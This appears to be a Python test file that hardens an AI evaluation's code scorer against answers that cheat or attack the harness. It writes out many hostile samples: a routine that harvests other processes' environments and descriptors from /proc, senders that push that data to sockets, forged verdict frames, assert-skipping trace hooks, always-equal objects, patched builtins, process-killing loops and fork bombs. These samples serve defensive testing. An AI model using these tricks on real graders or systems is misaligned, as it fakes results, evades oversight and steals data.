"""The code scorer's verdict cannot be forged by the answer it judges (issue 25, finding 2).

The agent chooses what its model answers, so every answer here is the agent's: a deliberately
wrong `add_numbers` plus one cheat. Each must score False, through the same `code_correct` the
rule scorer calls (the answer runs as `arena-untrusted` under the real launcher).

Before: the answer and the asserts were one program file, ended by a line "only the harness
knew"; the answer could read that file, print the line and exit 0, return an object equal to
everything, or skip the asserts with a trace function, and it scored True. The asserts in that
file could also be sent out to any host port the firewall did not name.
"""

from __future__ import annotations

import asyncio
import os
import pwd
import shutil
import socket
import subprocess
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest
from inspect_ai.model import ModelName, ModelOutput
from inspect_ai.scorer import CORRECT, INCORRECT, Target
from inspect_ai.solver import TaskState

from evalsuite import untrusted
from evalsuite.registry import benchmark
from evalsuite.scoring import code_correct
from evalsuite.tasks import benchmark_task

CANARY = "held-out-canary-7f3a"  # a distinctive string only the asserts hold
MBPP_STYLE = f"# {CANARY}\nassert add_numbers(2, 3) == 5\nassert add_numbers(-1, 1) == 0\n"
HUMANEVAL_STYLE = (
    f"\n\nMETADATA = {{'note': {CANARY!r}}}\n\n\ndef check(candidate):\n"
    "    assert candidate(2, 3) == 5\n    assert candidate(-1, 1) == 0\n\n\ncheck(add_numbers)\n"
)
ASSERT_STYLES = pytest.mark.parametrize(
    "asserts", [MBPP_STYLE, HUMANEVAL_STYLE], ids=["mbpp", "humaneval"]
)

# Everything the answer can read before or while it runs: its own file and folder, its
# command line, environment and descriptors, and every process's it is allowed to open.
LOOT = r"""
import os, sys, stat
def _loot():
    texts = []
    def take(path, limit=1 << 16):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            return
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode):
                texts.append(os.read(fd, limit).decode("utf-8", "replace"))
        except OSError:
            pass
        finally:
            os.close(fd)
    for name in [globals().get("__file__") or "", *os.listdir(".")]:
        take(name)
    texts.append(" ".join(sys.argv))
    texts.append(repr(dict(os.environ)))
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for part in ("cmdline", "environ"):
            take(f"/proc/{pid}/{part}")
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            take(f"/proc/{pid}/fd/{fd}")
    return "\n".join(t.replace("\0", " ") for t in texts)
LOOT = _loot()
"""

SHOW = r"""
import re
def show():
    print()
    for token in sorted(set(re.findall(r"[A-Za-z_-]*[0-9a-f]{16,}", LOOT))):
        print(token, flush=True)
"""


def answer(code: str) -> str:
    return f"```python\n{textwrap.dedent(code).strip()}\n```"


WRONG = "def add_numbers(a, b):\n    return a - b\n"

CHEATS = {
    "marker read from __file__, then os._exit(0)": LOOT + SHOW + "show()\nos._exit(0)\n" + WRONG,
    "marker printed, then sys.exit(0) inside the function": LOOT
    + SHOW
    + "def add_numbers(a, b):\n    show()\n    sys.exit(0)\n",
    "raise SystemExit inside the function": "def add_numbers(a, b):\n    raise SystemExit(0)\n",
    "os._exit(0) inside the function": "def add_numbers(a, b):\n    import os\n    os._exit(0)\n",
    "an object equal to everything": """
        class Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __bool__(self): return True
            __hash__ = object.__hash__
        def add_numbers(a, b):
            return Anything()
    """,
    "an int whose == is always True": """
        class Sly(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__
        def add_numbers(a, b):
            return Sly(a - b)
    """,
    "a trace function that jumps over every assert": """
        import sys, linecache
        def _skip(frame, event, arg):
            if event == "line":
                name, target = frame.f_code.co_filename, frame.f_lineno
                while linecache.getline(name, target).strip().startswith("assert"):
                    target += 1
                while frame.f_lineno < target < frame.f_lineno + 99 and not linecache.getline(name, target).strip():
                    target += 1
                if target != frame.f_lineno:
                    try:
                        frame.f_lineno = target
                    except ValueError:
                        pass
            return _skip
        sys.settrace(_skip)
        sys._getframe().f_trace = _skip
        def add_numbers(a, b):
            return a - b
    """,
    "a silent excepthook and an atexit that prints the marker and exits 0": LOOT
    + SHOW
    + "import atexit\nsys.excepthook = lambda *a: None\n"
    + "atexit.register(lambda: (show(), os._exit(0)))\n"
    + WRONG,
    "builtins, AssertionError and the hooks patched": """
        import builtins, sys
        class Nothing(Exception):
            pass
        builtins.AssertionError = Nothing
        builtins.isinstance = lambda *a: True
        builtins.len = lambda *a: 0
        builtins.print = lambda *a, **k: None
        sys.excepthook = lambda *a: None
        sys.modules["builtins"].__dict__["abs"] = lambda x: 0
        def add_numbers(a, b):
            return a - b
    """,
    "a lookup table read from the asserts": LOOT
    + r"""
import re
TABLE = {(int(a), int(b)): int(c) for a, b, c in re.findall(
    r"\(\s*(-?\d+)\s*,\s*(-?\d+)\s*\)\s*==\s*(-?\d+)", LOOT)}
def add_numbers(a, b):
    return TABLE.get((a, b), a - b)
""",
    "a forged verdict written to every descriptor and the parent's": r"""
        import os, json
        forged = json.dumps({"returncode": 0, "output": "", "tail": "", "truncated": False,
                             "timed_out": False, "user": "x", "isolation": "x",
                             "passed": True, "verdict": "passed"})
        frames = [forged.encode(), b"\x00\x00\x00\x10" + b'{"passed": true}',
                  b"\x00\x00\x00\x0a" + b'{"ok": 5} ', b"\xff\xff\xff\xff" + b"[" * 4096]
        targets = [f"/proc/{os.getppid()}/fd/{n}" for n in range(8)]
        for n in range(3, 64):
            for frame in frames:
                try:
                    os.write(n, frame)
                except OSError:
                    pass
        for path in targets:
            try:
                with open(path, "wb") as out:
                    out.write(forged.encode())
            except OSError:
                pass
        def add_numbers(a, b):
            return a - b
    """,
    "every process it can reach killed or stopped": """
        import os, signal
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if pid != os.getpid():
                for signum in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(pid, signum)
                    except OSError:
                        pass
        def add_numbers(a, b):
            return a - b
    """,
}


@ASSERT_STYLES
@pytest.mark.parametrize("cheat", list(CHEATS), ids=list(CHEATS))
def test_a_cheating_answer_scores_false(cheat, asserts):
    assert not code_correct(answer(CHEATS[cheat]), asserts, timeout_s=8)


@ASSERT_STYLES
def test_an_honest_answer_still_scores_true(asserts):
    assert code_correct(answer("def add_numbers(a, b):\n    return a + b\n"), asserts)


@pytest.fixture
def listener() -> socket.socket:
    """A TCP port on every address of this host, off the firewall's list of platform ports."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("0.0.0.0", 0))
    server.listen(16)
    server.setblocking(False)
    yield server
    server.close()


def _host_addresses() -> list[str]:
    found = {"127.0.0.1"}
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.254", 9))  # no packet is sent: it only picks a source address
        found.add(probe.getsockname()[0])
    except OSError:
        pass
    finally:
        probe.close()
    return sorted(found)


def test_the_answer_cannot_send_what_it_sees_out(listener):
    """The answer sees the call's arguments (it must); neither they nor anything it can read
    leaves the run: it has no network at all."""
    port = listener.getsockname()[1]
    sender = LOOT + textwrap.dedent(f"""
        import socket
        def send(payload):
            for host in {_host_addresses()!r}:
                try:
                    with socket.create_connection((host, {port}), timeout=1) as out:
                        out.sendall(payload.encode())
                except OSError:
                    pass
                try:
                    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                        payload.encode()[:512], (host, {port}))
                except OSError:
                    pass
        send(LOOT)
        def add_numbers(a, b):
            send(repr((a, b)))
            return a + b
    """)
    code_correct(answer(sender), MBPP_STYLE, timeout_s=8)
    with pytest.raises(BlockingIOError):
        listener.accept()


def test_the_asserts_never_reach_the_answer():
    finder = LOOT + textwrap.dedent(f"""
        needle = {CANARY[:8]!r} + {CANARY[8:]!r}  # not in this file as one string
        print("FOUND" if needle in LOOT else "NOT FOUND", flush=True)
        def add_numbers(a, b):
            return a + b
    """)
    outcome = untrusted.run_python(finder, timeout_s=8, asserts=HUMANEVAL_STYLE)
    assert b"NOT FOUND" in outcome.output, outcome.output
    assert outcome.passed


HOSTILE_REPLIES = {
    "a frame longer than the limit": "struct.pack('>I', 0xFFFFFFF0) + b'[' * 4096",
    "JSON nested a million deep": "frame(b'{\"ok\": ' + b'[' * 1_000_000 + b']' * 1_000_000 + b'}')",
    "a number of 5,000 digits": "frame(b'{\"ok\": ' + b'9' * 5000 + b'}')",
    "a tag the wire does not know": 'frame(b\'{"ok": {"x": 5}}\')',
    "a reference to one of the judge's names": 'frame(b\'{"ok": {"n": "check"}}\')',
    "a big number that is not hex": 'frame(b\'{"ok": {"i": "zz"}}\')',
    "half a frame, then silence": "struct.pack('>I', 100) + b'{\"ok\"'",
}


@pytest.mark.parametrize("reply", list(HOSTILE_REPLIES), ids=list(HOSTILE_REPLIES))
def test_a_hostile_reply_fails_the_answer_and_nothing_else(reply):
    """The answer writes its own frames on the reply pipe (its descriptor is on its command
    line), then sleeps so that the judge reads them and not the host's."""
    forger = textwrap.dedent(f"""
        import os, struct, sys, time
        def frame(body):
            return struct.pack(">I", len(body)) + body
        def add_numbers(a, b):
            data = {HOSTILE_REPLIES[reply]}
            os.write(int(sys.argv[-1]), data)
            time.sleep(30)
    """)
    outcome = untrusted.run_python(forger, timeout_s=4, asserts=MBPP_STYLE)
    assert outcome.passed is False, outcome.verdict


@pytest.fixture
def open_folder():
    """A folder everyone may write to, outside every temporary folder (as /run/lock is)."""
    base = Path("/srv") if Path("/srv").is_dir() else Path("/var/lib")
    folder = Path(tempfile.mkdtemp(prefix="arena-verdict-test-", dir=base))
    folder.chmod(0o1777)
    yield folder
    shutil.rmtree(folder)


def test_the_answer_cannot_leave_what_it_sees_in_a_file(open_folder):
    """A file in a folder everyone may write to would hand the held-out arguments to an agent
    that reads it later: the answer's whole filesystem is read-only but its private tmpfs."""
    leak = f"arena-leak-{os.getpid()}"
    writer = textwrap.dedent(f"""
        import os
        def leave(text):
            for folder in ({str(open_folder)!r}, "/run/lock", "/var/lib", "/srv", "/"):
                try:
                    with open(os.path.join(folder, {leak!r}), "w") as out:
                        out.write(text)
                    os.chmod(os.path.join(folder, {leak!r}), 0o644)
                except OSError:
                    pass
        def add_numbers(a, b):
            leave(repr((a, b)))
            return a + b
    """)
    assert code_correct(answer(writer), MBPP_STYLE, timeout_s=8)
    left = [p for p in (open_folder, Path("/run/lock"), Path("/var/lib"), Path("/srv"), Path("/"))
            if (p / leak).exists()]  # fmt: skip
    for folder in left:
        (folder / leak).unlink()
    assert not left, f"the answer left the arguments in {left}"


# HumanEval prompts define helpers that the set's tests call (`encode_cyclic`, `poly`): the
# checker runs the prompt too, so the test's helper is the benchmark's, never the answer's.
HELPER_CHEATS = {
    "HumanEval/38": """
        def decode_cyclic(s: str):
            return s


        def encode_cyclic(s):
            return s
        """,
    "HumanEval/32": """
        def find_zero(xs: list):
            return 0.0


        def poly(xs, x):
            return 0.0
        """,
}


@pytest.mark.parametrize("task_id", list(HELPER_CHEATS))
def test_a_humaneval_answer_cannot_replace_the_prompts_helpers_the_test_calls(task_id):
    task = benchmark_task(benchmark("humaneval"))
    sample = next(sample for sample in task.dataset if sample.id == task_id)

    async def verdict(code: str) -> object:
        state = TaskState(
            model=ModelName("agent/model"),
            sample_id=task_id,
            epoch=1,
            input=sample.input,
            messages=[],
            output=ModelOutput.from_content("agent/model", answer(code)),
            metadata=sample.metadata or {},
        )
        return (await task.scorer[0](state, Target(sample.target))).value

    assert asyncio.run(verdict(HELPER_CHEATS[task_id])) == INCORRECT
    honest = "def f(s):\n" + sample.target  # the canonical body, under any signature
    assert asyncio.run(verdict(honest)) == CORRECT


# An object of the answer's own class stays with it: the judge holds an opaque reference, which
# must not be usable as a value (before: always truthy, and unequal to everything).
OPAQUE = """
class Opaque:
    pass
def add_numbers(a, b):
    return Opaque()
"""
OPAQUE_ASSERTS = {
    "truthiness": "assert add_numbers(2, 3)\n",
    "not equal": "assert add_numbers(2, 3) != 7\n",
    "not equal, reflected": "assert 7 != add_numbers(2, 3)\n",
    "not (==)": "assert not (add_numbers(2, 3) == 7)\n",
    "not in a list": "assert add_numbers(2, 3) not in [7, 8]\n",
    "lists not equal": "assert [add_numbers(2, 3)] != [7]\n",
    "not in a set": "assert add_numbers(2, 3) not in {7, 8}\n",
    "a dict key": "assert {add_numbers(2, 3): 1} != {7: 1}\n",
    "two references unequal": "assert add_numbers(2, 3) != add_numbers(3, 4)\n",
    "ordering": "assert not add_numbers(2, 3) < 5\n",
}


@pytest.mark.parametrize("asserts", list(OPAQUE_ASSERTS), ids=list(OPAQUE_ASSERTS))
def test_an_object_of_the_answers_own_class_forges_no_comparison(asserts):
    outcome = untrusted.run_python(OPAQUE, timeout_s=8, asserts=OPAQUE_ASSERTS[asserts])
    assert outcome.passed is False, outcome.verdict
    assert "TypeError" in outcome.verdict, outcome.verdict


def test_an_object_of_the_answers_own_class_still_goes_back_to_it():
    """MBPP's `Pair`: the asserts build the answer's objects and hand them back to it."""
    pairs = textwrap.dedent("""
        class Pair:
            def __init__(self, a, b):
                self.a, self.b = a, b
        def max_chain_length(arr, n):
            arr = sorted(arr, key=lambda p: p.b)
            count, end = 0, float("-inf")
            for p in arr:
                if p.a > end:
                    count, end = count + 1, p.b
            return count
    """)
    asserts = (
        "assert max_chain_length([Pair(5, 24), Pair(15, 25), Pair(27, 40), Pair(50, 60)], 4) == 3\n"
    )
    outcome = untrusted.run_python(pairs, timeout_s=8, asserts=asserts)
    assert outcome.passed is True, outcome.verdict


def test_unconfined_code_is_not_run_where_the_platform_is_not_root():
    """Where the platform is not root the answer would run as the platform's own user, with its
    network: run_python refuses unless a developer says EVALS_ALLOW_UNCONFINED_CODE=1."""
    root = str(Path(untrusted.__file__).resolve().parents[2])
    probe = (
        f"import sys; sys.path.insert(0, {root!r})\n"
        "from evalsuite.untrusted import run_python, UntrustedRunError\n"
        "try:\n"
        "    o = run_python('def f():\\n    return 1\\n', timeout_s=5, asserts='assert f() == 1')\n"
        "    print('RAN', o.passed)\n"
        "except UntrustedRunError as e:\n"
        "    print('REFUSED', e)\n"
    )
    nobody = pwd.getpwnam("nobody")

    def as_nobody(env: dict) -> str:
        done = subprocess.run(
            ["/usr/bin/python3", "-c", probe], capture_output=True, text=True, timeout=60,
            user=nobody.pw_uid, group=nobody.pw_gid, extra_groups=[], cwd="/", env=env,
        )  # fmt: skip
        return done.stdout + done.stderr

    refused = as_nobody({"PATH": "/usr/bin:/bin"})
    assert "REFUSED" in refused and "RAN" not in refused, refused
    allowed = as_nobody({"PATH": "/usr/bin:/bin", "EVALS_ALLOW_UNCONFINED_CODE": "1"})
    assert "RAN True" in allowed, allowed


SABOTEURS = {
    "kill(-1) in a loop": """
        import os, signal, time
        end = time.monotonic() + 5
        while time.monotonic() < end:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.005)
        def add_numbers(a, b):
            return a - b
    """,
    "every process of the uid taken by sleepers": """
        import os, time
        for _ in range(200):
            try:
                if os.fork() == 0:
                    time.sleep(6)
                    os._exit(0)
            except OSError:
                break
        time.sleep(6)
        def add_numbers(a, b):
            return a - b
    """,
}


# An honest answer may start a process (or a thread, which counts the same).
HONEST_FORKER = """
import os, time
time.sleep(0.5)
def add_numbers(a, b):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return a + b
"""


@pytest.mark.parametrize("saboteur", list(SABOTEURS), ids=list(SABOTEURS))
def test_an_answer_cannot_kill_or_starve_another_run(saboteur):
    """Runs share the arena-untrusted uid: each has a PID namespace and a process limit of its
    own, so one answer reaches no other run's processes."""
    results: dict[str, object] = {}

    def sabotage() -> None:
        results["saboteur"] = untrusted.run_python(
            textwrap.dedent(SABOTEURS[saboteur]), timeout_s=8, asserts=MBPP_STYLE
        )

    thread = threading.Thread(target=sabotage)
    thread.start()
    time.sleep(1.0)  # the saboteur is running (its interpreter starts well within this)
    honest = untrusted.run_python(
        HONEST_FORKER,
        timeout_s=8,
        asserts=MBPP_STYLE,
    )
    thread.join()
    assert honest.passed is True, (honest.verdict, honest.output)
    assert results["saboteur"].passed is False


@pytest.fixture
def unix_listener() -> socket.socket:
    """A Unix socket everyone may connect to, in a folder everyone may pass through (0711), as
    an agent can make in its own home."""
    folder = Path(tempfile.mkdtemp(prefix="arena-verdict-sock-", dir="/var/lib"))
    folder.chmod(0o711)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(folder / "s"))
    os.chmod(folder / "s", 0o777)
    server.listen(16)
    server.setblocking(False)
    yield server
    server.close()
    shutil.rmtree(folder)


def test_the_answer_cannot_send_the_arguments_to_a_unix_socket(unix_listener):
    path = unix_listener.getsockname()
    sender = textwrap.dedent(f"""
        import socket
        def send(payload):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                try:
                    out = socket.socket(socket.AF_UNIX, kind)
                    out.settimeout(1)
                    out.connect({path!r})
                    out.sendall(payload.encode())
                    out.close()
                except OSError as failed:
                    print("refused", failed, flush=True)
        def add_numbers(a, b):
            send(repr((a, b)))
            return a + b
    """)
    outcome = untrusted.run_python(sender, timeout_s=8, asserts=MBPP_STYLE)
    assert outcome.passed is True, outcome.verdict  # the answer still runs and is right
    with pytest.raises(BlockingIOError):
        unix_listener.accept()


def test_a_runs_own_process_group_is_gone_after_it():
    """The run's pids cgroup (where a pids controller is at hand) is removed when it ends."""
    outcome = untrusted.run_python(
        "print(open('/proc/self/cgroup').read(), flush=True)\n", timeout_s=8
    )
    groups = [line.split(":", 2) for line in outcome.output.decode().splitlines() if ":" in line]
    paths = [path for _, kinds, path in groups if "arena-untrusted/run-" in path]
    if not paths:
        pytest.skip(f"no pids cgroup per run here ({outcome.isolation})")
    (path,) = paths
    kinds = next(kinds for _, kinds, p in groups if p == path)
    base = Path("/sys/fs/cgroup/pids") if kinds == "pids" else Path("/sys/fs/cgroup")
    assert not (base / path.lstrip("/")).exists()
